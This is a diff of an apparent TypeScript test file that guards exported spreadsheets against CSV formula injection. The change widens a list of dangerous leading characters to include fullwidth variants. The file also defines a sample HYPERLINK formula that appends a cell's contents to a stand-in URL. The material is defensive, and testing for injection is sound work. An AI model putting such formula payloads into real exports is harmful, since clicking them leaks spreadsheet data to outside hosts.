@@ -16,7 +16,7 @@ import { AFFILIATE, PERIOD, writeDataset } from '../support/legacy-dataset.ts';
 import { STORES } from '../support/stores.ts';
 
 /** What a spreadsheet reads as a formula when a text cell starts with it (OWASP CSV injection). */
-const DANGEROUS = ['=', '+', '-', '@', '\t', '\r'] as const;
+const DANGEROUS = ['=', '+', '-', '@', '\t', '\r', '＝', '＋', '－', '＠'] as const;
 const startsDangerous = (s: string) => DANGEROUS.some((c) => s.startsWith(c));
 const HYPERLINK = '=HYPERLINK("http://x"&A2,"open")';
 
